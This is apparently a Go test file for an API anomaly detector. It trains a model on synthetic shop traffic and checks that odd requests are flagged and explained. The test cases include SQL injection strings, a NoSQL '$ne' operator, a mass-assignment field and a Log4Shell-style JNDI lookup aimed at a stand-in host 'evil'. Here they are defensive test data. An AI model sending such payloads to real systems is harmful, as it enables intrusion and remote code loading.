package parameters

import (
	"math"
	"net/url"
	"strings"
	"testing"

	"github.com/weir-dev/weir/schemas"
)

// shop is a Learner that saw n calls of each of three routes, by a client each.
func shop(n int) *Learner {
	l := NewLearner(Config{})
	for i := range n {
		for _, c := range shopCalls(i) {
			c.teach(l)
		}
	}
	return l
}

func shopCalls(i int) []call {
	sizes := []string{"small", "medium", "large"}
	search := get(i, "/items", "page="+itoa(1+i%200)+"&sort="+sizes[i%3]+"&q="+words[i%len(words)]+"+"+words[i*7%len(words)])
	order := post(i, "/orders", "application/json",
		`{"item":`+itoa(1000+i)+`,"note":"`+words[i%len(words)]+` please","lines":[{"sku":"AB-`+itoa(10000+i%80000)+`","count":`+itoa(1+i%9)+`}]}`)
	login := post(i, "/login", "application/x-www-form-urlencoded", "user=u"+itoa(1000+i)+"&pin="+itoa(1000+i*37%9000))
	return []call{search, order, login}
}

func itoa(i int) string { return string(appendInt(nil, i)) }

func appendInt(b []byte, i int) []byte {
	if i >= 10 {
		b = appendInt(b, i/10)
	}
	return append(b, byte('0'+i%10))
}

func TestJudgeNamesWhatIsOdd(t *testing.T) {
	m := shop(500).Model()
	body := func(s string) call { return post(1, "/orders", "application/json", s) }
	form := func(s string) call { return post(1, "/login", "application/x-www-form-urlencoded", s) }
	unknownMethod := get(1, "/items", "")
	unknownMethod.e.Method, unknownMethod.route = []byte("DELETE"), []byte("DELETE /items")
	tests := []struct {
		what string
		call call
		kind Kind
		name string
	}{
		{"usual search", get(9, "/items", "page=7&sort=small&q=river+stone"), KindNone, ""},
		{"usual order", body(`{"item":1007,"note":"river please","lines":[{"sku":"AB-20000","count":3},{"sku":"AB-20001","count":4}]}`), KindNone, ""},
		{"usual login", form("user=u1234&pin=5678"), KindNone, ""},
		{"text for a number", get(9, "/items", "page=first&sort=small&q=river+stone"), KindType, "page"},
		{"injection", get(9, "/items", "page=1'+or+'1'='1&sort=small&q=river+stone"), KindCharacters, "page"},
		{"huge number", get(9, "/items", "page=99999999999&sort=small&q=river+stone"), KindRange, "page"},
		{"negative number", form("user=u1234&pin=-567"), KindRange, "pin"},
		{"not a member", get(9, "/items", "page=7&sort=tall&q=river+stone"), KindEnum, "sort"},
		{"too long", get(9, "/items", "page=7&sort=small&q="+strings.Repeat("river+", 500)), KindLength, "q"},
		{"markup", get(9, "/items", "page=7&sort=small&q=%3Cb%3Eriver"), KindCharacters, "q"},
		{"new parameter", get(9, "/items", "page=7&sort=small&q=river+stone&debug=1"), KindUnknown, "debug"},
		{"absent parameter", get(9, "/items", "page=7&q=river+stone"), KindMissing, "sort"},
		{"given twice", get(9, "/items", "page=7&sort=small&q=river+stone&page=8"), KindDuplicate, "page"},
		{"other order", get(9, "/items", "q=river+stone&sort=small&page=7"), KindOrder, "sort"},
		{"mass assignment", body(`{"item":1007,"note":"river please","admin":true,"lines":[{"sku":"AB-20000","count":3}]}`), KindUnknown, "admin"},
		{"operator for a value", body(`{"item":{"$ne":1},"note":"river please","lines":[{"sku":"AB-20000","count":3}]}`), KindUnknown, "item.$ne"},
		{"quoted number", body(`{"item":"1007","note":"river please","lines":[{"sku":"AB-20000","count":3}]}`), KindCharacters, "item"},
		{"broken pattern", body(`{"item":1007,"note":"river please","lines":[{"sku":"20-AB000","count":3}]}`), KindPattern, "lines[].sku"},
		{"broken JSON", body(`{"item":1007,"note":"river please","lines":[{"sku":"AB-20000","count":3}]`), KindContentType, ""},
		{"other format", post(1, "/orders", "application/xml", "<item>1007</item>"), KindContentType, ""},
		{"unknown path", get(9, "/admin", ""), KindRoute, ""},
		{"unknown method", unknownMethod, KindMethod, ""},
	}
	s := NewScratch()
	for _, tt := range tests {
		r := m.Judge(s, tt.call.e, tt.call.route)
		if r.Worst.LogP > math.Log(0.02) {
			r.Worst = Violation{}
		}
		if r.Worst.Kind != tt.kind || string(r.Worst.Name) != tt.name {
			t.Errorf("%s: got %s of %q (ln p %.1f), want %s of %q", tt.what, r.Worst.Kind, r.Worst.Name, r.Worst.LogP, tt.kind, tt.name)
		}
		if odd := tt.kind != KindNone; odd != (r.Violations > 0) || odd != (r.LogP < -2) {
			t.Errorf("%s: %d violations, ln p %.1f", tt.what, r.Violations, r.LogP)
		}
		if text := m.Explain(r.Worst); (text == "") != (tt.kind == KindNone) {
			t.Errorf("%s: explained as %q", tt.what, text)
		}
	}
}

func TestExplainSaysWhatWasExpected(t *testing.T) {
	m := shop(500).Model()
	r := get(9, "/items", "page=abcd&sort=small&q=river+stone").judge(m)
	want := `query parameter "page" is always an integer of 1 to 3 bytes (500 values), got "abcd"`
	if got := m.Explain(r.Worst); got != want {
		t.Errorf("got  %s\nwant %s", got, want)
	}
	r = get(9, "/items", "page=7&sort=tall&q=river+stone").judge(m)
	want = `query parameter "sort" is one of "medium", "small", "large" (500 values), got "tall"`
	if got := m.Explain(r.Worst); got != want {
		t.Errorf("got  %s\nwant %s", got, want)
	}
	r = get(9, "/phpmyadmin", "").judge(m)
	want = `path "/phpmyadmin" is not among the 3 routes that 1500 calls of the API took`
	if got := m.Explain(r.Worst); got != want {
		t.Errorf("got  %s\nwant %s", got, want)
	}
}

// Ten values of a parameter are enough to find text in place of a number
// improbable: the prior says that parameters have one type.
func TestTenCallsAreOfUse(t *testing.T) {
	l := NewLearner(Config{})
	for i := range 10 {
		get(i, "/items", "page="+itoa(i+1)).teach(l)
	}
	m := l.Model()
	usual := get(11, "/items", "page=12").judge(m)
	if !usual.Known || usual.Violations != 0 || usual.LogP < -1 {
		t.Errorf("page=12: %+v", usual)
	}
	for _, a := range attacks {
		if r := get(11, "/items", "page="+url.QueryEscape(a)).judge(m); r.Violations == 0 {
			t.Errorf("%q after ten integers: no violation, ln p %.1f", a, r.LogP)
		}
	}
}

// The probability of a type is the Dirichlet predictive (n_t + k q_t)/(n + k),
// summed over the types that are no likelier.
func TestTypeProbability(t *testing.T) {
	p := &paramState{}
	for i := range 40 {
		it := item{loc: Query, value: []byte(itoa(i)), shape: shapeOf([]byte(itoa(i)), 0)}
		p.observe(&it, uint32(i+1))
	}
	var out paramModel
	p.compileTypes(&out, generalPrior)
	// Every other type also counts as text, so none ranks below it.
	want := typeStrength * generalPrior.types[TypeText] / (40 + typeStrength)
	if got := math.Exp(float64(out.types[TypeText])); math.Abs(got-want) > 1e-6 {
		t.Errorf("p(text) = %g, want %g", got, want)
	}
	// An e-mail address is no likelier than text and e-mail address together, nor
	// than what ranks below that: text.
	want = typeStrength * (generalPrior.types[TypeText] + generalPrior.types[TypeEmail]) / (40 + typeStrength)
	if got := math.Exp(float64(out.types[TypeEmail])); got < want-1e-6 {
		t.Errorf("p(e-mail) = %g, want %g or more", got, want)
	}
	if out.types[TypeInt] != 0 {
		t.Errorf("ln p(int) = %g, want 0: it is common", out.types[TypeInt])
	}
}

// P(new) of an enumeration is (N1 + k m)/(n + k m) (Good-Turing, shrunk).
func TestNewValueProbability(t *testing.T) {
	var s valueSet
	for i := range 90 {
		s.add([]byte([]string{"a", "b", "c"}[i%3]), 1, &witness{uint32(i + 1)})
	}
	s.add([]byte("once"), 1, &witness{7})
	var listed []string
	lp, ok := s.newcomer(func(v string) { listed = append(listed, v) })
	want := math.Log((1 + 3*valueStrength) / (91 + 3*valueStrength))
	if !ok || math.Abs(float64(lp)-want) > 1e-6 || strings.Join(listed, "") != "abc" {
		t.Errorf("got ln p %v of %v, want %v", lp, listed, want)
	}
}

// One thing with p and n judged: ln(2 n p); two: ln(n(n-1)/2 * p*q bound).
func TestCombine(t *testing.T) {
	j := judgement{count: 5, best: math.Log(1e-4), next: 0}
	if got, want := j.combine(), math.Log(2*5*1e-4); math.Abs(got-want) > 1e-12 {
		t.Errorf("one: %g, want %g", got, want)
	}
	j = judgement{count: 5, best: math.Log(1e-3), next: math.Log(1e-3)}
	if got, want := j.combine(), math.Log(2*10*1e-6); math.Abs(got-want) > 1e-12 {
		t.Errorf("two: %g, want %g", got, want)
	}
	// Two of one subject are one thing.
	j = judgement{count: 5, of: ofMissing}
	for _, about := range []int{3, 3, ofUnknown, ofUnknown} {
		j.this = math.Log(1e-3)
		j.done(about, nil)
	}
	if j.best != math.Log(1e-3) || j.next != math.Log(1e-3) || j.Violations != 4 {
		t.Errorf("two subjects: %+v", j)
	}
	j = judgement{count: 5, of: ofMissing}
	for range 2 {
		j.this = math.Log(1e-3)
		j.done(3, nil)
	}
	if j.next != 0 {
		t.Errorf("one subject: %+v", j)
	}
	j = judgement{count: 5, of: ofMissing}
	for k := range 2 {
		j.this = math.Log(1e-3)
		j.done(k, []byte("Repeated"))
	}
	if j.next != 0 {
		t.Errorf("one value: %+v", j)
	}
	j = judgement{count: 5}
	if got := j.combine(); got != 0 {
		t.Errorf("none: %g", got)
	}
}

func TestUnknownAPIsAreNotJudged(t *testing.T) {
	m := shop(20).Model()
	c := get(1, "/items", "page=x")
	c.e.API = []byte("bank")
	if r := c.judge(m); r.Known || r.LogP != 0 || r.Violations != 0 {
		t.Errorf("%+v", r)
	}
	c.e.API, c.e.Tenant = []byte("shop"), []byte("other")
	if r := c.judge(m); r.LogP != 0 {
		t.Errorf("another tenant's API of the same name: %+v", r)
	}
	c.e.Tenant = []byte("default")
	if r := c.judge(m); r.LogP == 0 {
		t.Error("the default tenant is the one of events that name none")
	}
}

func TestHeadersAreJudgedPerAPI(t *testing.T) {
	l := NewLearner(Config{})
	for i := range 300 {
		for _, c := range shopCalls(i) {
			c.e.UserAgent = []byte("Browser/" + itoa(i%50) + ".0")
			c.e.Headers = []schemas.KV{{Key: []byte("accept"), Value: []byte("application/json")}}
			c.teach(l)
		}
	}
	m := l.Model()
	c := get(7, "/items", "page=7&sort=small&q=river+stone")
	c.e.UserAgent = []byte("Browser/7.0")
	if r := c.judge(m); r.LogP < -1 || r.Values != 4 {
		t.Errorf("usual: %+v", r)
	}
	c.e.UserAgent = []byte("${jndi:ldap://evil/a}")
	r := c.judge(m)
	if r.Worst.Location != Header || string(r.Worst.Name) != "user-agent" || r.Violations == 0 {
		t.Errorf("injected: %+v", r)
	}
	if text := m.Explain(r.Worst); !strings.HasPrefix(text, `header "user-agent"`) {
		t.Errorf("explained as %s", text)
	}
}

func TestPathParametersAreJudged(t *testing.T) {
	l := NewLearner(Config{})
	path := func(v string) call {
		c := get(0, "/v1/accounts/"+v+"/cards", "")
		c.route, c.client = []byte("GET /v1/accounts/{id}/cards"), []byte(v)
		return c
	}
	for i := range 50 {
		path(itoa(100 + i)).teach(l)
	}
	m := l.Model()
	if r := path("133").judge(m); r.LogP < -1 || r.Values != 1 {
		t.Errorf("133: %+v", r)
	}
	if r := path("1%27--").judge(m); r.Worst.Location != Path || string(r.Worst.Value) != "1'--" || r.Violations == 0 {
		t.Errorf("1'--: %+v", r)
	}
}

func TestJudgeAllocatesNothing(t *testing.T) {
	m := shop(300).Model()
	s := NewScratch()
	calls := shopCalls(5)
	calls = append(calls, get(1, "/items", "page=%31%27+or+1&sort=tall&x%5B3%5D=1&q=%zz"), get(1, "/nowhere", "a=b"),
		post(1, "/orders", "application/json", `{"item":"\u0041\n","lines":[[[1,2,{"a":null}]]`))
	for i := range calls {
		calls[i].e.UserAgent = []byte("Browser/7.0")
	}
	m.Judge(s, calls[0].e, calls[0].route)
	if n := testing.AllocsPerRun(200, func() {
		for i := range calls {
			m.Judge(s, calls[i].e, calls[i].route)
		}
	}); n != 0 {
		t.Errorf("%v allocations a run", n)
	}
}

// Whatever a request holds, judging it ends well, and the probability is one.
func FuzzJudge(f *testing.F) {
	f.Add("GET /items", "page=1&sort=small", "", "", "")
	f.Add("POST /orders", "", "application/json", `{"item":1,"lines":[{"sku":"x"}]}`, "/orders")
	f.Add("POST /login", "", "application/x-www-form-urlencoded", "user=a&user=b&pin=%", "/login")
	f.Add("GET /items/{id}/*", "a[1]=2", "text/xml", "<a/>", "/items/7/x/y")
	m := shop(50).Model()
	s := NewScratch()
	f.Fuzz(func(t *testing.T, route, query, contentType, body, path string) {
		e := schemas.NewEvent()
		e.API, e.Method, e.Path, e.Query = []byte("shop"), []byte("POST"), []byte(path), []byte(query)
		e.ContentType, e.BodySample, e.UserAgent = []byte(contentType), []byte(body), []byte(query)
		e.ReqBytes = int64(len(body))
		r := m.Judge(s, e, []byte(route))
		if math.IsNaN(r.LogP) || r.LogP > 0 || r.Worst.LogP > 0 || r.Violations > 0 && r.Worst.Kind == KindNone {
			t.Fatalf("%+v", r)
		}
		if again := m.Judge(NewScratch(), e, []byte(route)); again.LogP != r.LogP || again.Violations != r.Violations {
			t.Fatalf("ln p %g, then %g", r.LogP, again.LogP)
		}
		m.Explain(r.Worst)
	})
}
